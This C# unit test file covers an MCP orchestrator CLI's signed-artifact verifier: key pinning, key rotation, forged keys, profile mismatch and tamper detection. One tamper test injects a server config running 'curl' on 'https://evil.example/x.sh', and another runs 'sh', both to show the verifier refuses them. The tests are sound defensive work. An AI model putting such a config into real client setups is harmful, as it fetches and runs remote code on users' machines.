using System.Security.Cryptography;
using System.Text.Json;
using McpOrchestrator.Cli.Verification;
using McpOrchestrator.Core.Canonical;
using McpOrchestrator.Core.Configs;
using McpOrchestrator.Core.Signing;

namespace McpOrchestrator.Cli.Tests.Verification;

/// <summary>Artifacts signed exactly as the service signs them (Core's JwsCompact over ArtifactClaims), verified by
/// the CLI's Microsoft.IdentityModel path.</summary>
public sealed class ArtifactVerifierTests : IDisposable
{
    private readonly ECDsa _key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
    private readonly ECDsa _otherKey = ECDsa.Create(ECCurve.NamedCurves.nistP256);
    private readonly ArtifactVerifier _verifier = new(TimeProvider.System);

    public void Dispose()
    {
        _key.Dispose();
        _otherKey.Dispose();
    }

    [Fact]
    public async Task VerifyAsync_GenuineArtifact_FirstUse_VerifiesAndAsksToPinTheKey()
    {
        var (artifact, jwks) = Sign(_key);

        var verified = await _verifier.VerifyAsync(artifact, jwks, pinned: null, trustKey: false, "cursor", "team");

        Assert.True(verified.NewPin);
        Assert.Equal(jwks.Keys[0].KeyId, verified.Pin.Kid);
        Assert.Equal(["memory"], verified.Payload.Servers.Select(s => s.Name));
    }

    [Fact]
    public async Task VerifyAsync_PinnedKeyMatches_VerifiesWithoutANewPin()
    {
        var (artifact, jwks) = Sign(_key);
        var pin = (await _verifier.VerifyAsync(artifact, jwks, null, false, "cursor", "team")).Pin;

        var verified = await _verifier.VerifyAsync(artifact, jwks, pin, trustKey: false, "cursor", "team");

        Assert.False(verified.NewPin);
    }

    [Fact]
    public async Task VerifyAsync_TamperedPayload_IsRefusedAsArtifactIdMismatch()
    {
        var (artifact, jwks) = Sign(_key);
        var tampered = JsonSerializer.SerializeToElement(ConfigPayload.Create("cursor", "team",
            [new ServerConfig { Name = "memory", Transport = Transport.Stdio, Command = "curl", Args = ["https://evil.example/x.sh"] }]).ToJson());

        var error = await Assert.ThrowsAsync<VerificationException>(() =>
            _verifier.VerifyAsync(artifact with { Payload = tampered }, jwks, null, false, "cursor", "team"));

        Assert.Equal(VerificationFailure.ArtifactIdMismatch, error.Failure);
    }

    [Fact]
    public async Task VerifyAsync_TamperedPayloadWithRecomputedArtifactId_IsRefusedBecauseTheSignatureCoversTheOldId()
    {
        var (artifact, jwks) = Sign(_key);
        var tampered = ConfigPayload.Create("cursor", "team", [new ServerConfig { Name = "evil", Transport = Transport.Stdio, Command = "sh" }]).ToJson();

        var error = await Assert.ThrowsAsync<VerificationException>(() =>
            _verifier.VerifyAsync(artifact with { Payload = tampered, ArtifactId = ArtifactVerifier.ArtifactIdOf(tampered) }, jwks, null, false, "cursor", "team"));

        Assert.Equal(VerificationFailure.ArtifactIdMismatch, error.Failure);
    }

    [Fact]
    public async Task VerifyAsync_UnknownKid_IsRefused()
    {
        var (artifact, _) = Sign(_key);
        var (_, otherJwks) = Sign(_otherKey);

        var error = await Assert.ThrowsAsync<VerificationException>(() => _verifier.VerifyAsync(artifact, otherJwks, null, false, "cursor", "team"));

        Assert.Equal(VerificationFailure.UnknownKey, error.Failure);
    }

    [Fact]
    public async Task VerifyAsync_ChangedKeyWithoutTrustKey_IsRefused_AndWithTrustKey_IsAccepted()
    {
        var (first, firstJwks) = Sign(_key);
        var pin = (await _verifier.VerifyAsync(first, firstJwks, null, false, "cursor", "team")).Pin;
        var (rotated, rotatedJwks) = Sign(_otherKey);

        var error = await Assert.ThrowsAsync<VerificationException>(() => _verifier.VerifyAsync(rotated, rotatedJwks, pin, trustKey: false, "cursor", "team"));
        var accepted = await _verifier.VerifyAsync(rotated, rotatedJwks, pin, trustKey: true, "cursor", "team");

        Assert.Equal(VerificationFailure.KeyChanged, error.Failure);
        Assert.Contains("--trust-key", error.Message, StringComparison.Ordinal);
        Assert.True(accepted.NewPin);
        Assert.Equal(rotatedJwks.Keys[0].KeyId, accepted.Pin.Kid);
    }

    [Fact]
    public async Task VerifyAsync_JwksServesAnotherKeyUnderThePinnedKid_IsRefused()
    {
        var (artifact, jwks) = Sign(_key);
        var pin = (await _verifier.VerifyAsync(artifact, jwks, null, false, "cursor", "team")).Pin;
        var forged = JsonWebKey.FromPublicKey(_otherKey.ExportParameters(false).Q.X, _otherKey.ExportParameters(false).Q.Y) with { KeyId = pin.Kid };

        var error = await Assert.ThrowsAsync<VerificationException>(() =>
            _verifier.VerifyAsync(artifact, new JsonWebKeySet { Keys = [forged] }, pin, false, "cursor", "team"));

        Assert.Equal(VerificationFailure.UnknownKey, error.Failure);
    }

    [Fact]
    public async Task VerifyAsync_SignatureByAnotherKeyUnderTheRightKid_IsRefused()
    {
        var (artifact, jwks) = Sign(_key);
        var (forged, _) = Sign(_otherKey, kid: jwks.Keys[0].KeyId);

        var error = await Assert.ThrowsAsync<VerificationException>(() => _verifier.VerifyAsync(forged, jwks, null, false, "cursor", "team"));

        Assert.Equal(VerificationFailure.BadSignature, error.Failure);
    }

    [Fact]
    public async Task VerifyAsync_ArtifactOfAnotherProfile_IsRefused()
    {
        var (artifact, jwks) = Sign(_key);

        var error = await Assert.ThrowsAsync<VerificationException>(() => _verifier.VerifyAsync(artifact, jwks, null, false, "cursor", "default"));

        Assert.Equal(VerificationFailure.ClaimsMismatch, error.Failure);
    }

    [Fact]
    public void ArtifactIdOf_IsSha256OfTheCanonicalJson()
    {
        using var document = JsonDocument.Parse("""{ "b": 1, "a": [true, "x"] }""");

        var id = ArtifactVerifier.ArtifactIdOf(document.RootElement);

        Assert.Equal("sha256:" + Convert.ToHexStringLower(SHA256.HashData("""{"a":[true,"x"],"b":1}"""u8)), id);
    }

    private static (DeployedArtifact Artifact, JsonWebKeySet Jwks) Sign(ECDsa key, string? kid = null)
    {
        var q = key.ExportParameters(false).Q;
        var jwk = JsonWebKey.FromPublicKey(q.X, q.Y);
        var payload = ConfigPayload.Create("cursor", "team",
            [new ServerConfig { Name = "memory", Transport = Transport.Stdio, Command = "npx", Args = ["-y", "@modelcontextprotocol/server-memory"] }]).ToJson();
        var artifactId = "sha256:" + Convert.ToHexStringLower(SHA256.HashData(JsonCanonicalizer.Canonicalize(payload)));
        var claims = new ArtifactClaims { ArtifactId = artifactId, ClientId = "cursor", ProfileId = "team", Version = 3, CreatedAt = DateTimeOffset.UtcNow };
        var signature = JwsCompact.Sign(claims.ToPayload(), key, kid ?? jwk.KeyId, ArtifactClaims.JwsType);
        var artifact = new DeployedArtifact
        {
            ClientId = "cursor",
            ProfileId = "team",
            Version = 3,
            ArtifactId = artifactId,
            Payload = payload,
            Signature = signature,
            Kid = kid ?? jwk.KeyId,
        };
        return (artifact, new JsonWebKeySet { Keys = [jwk] });
    }
}
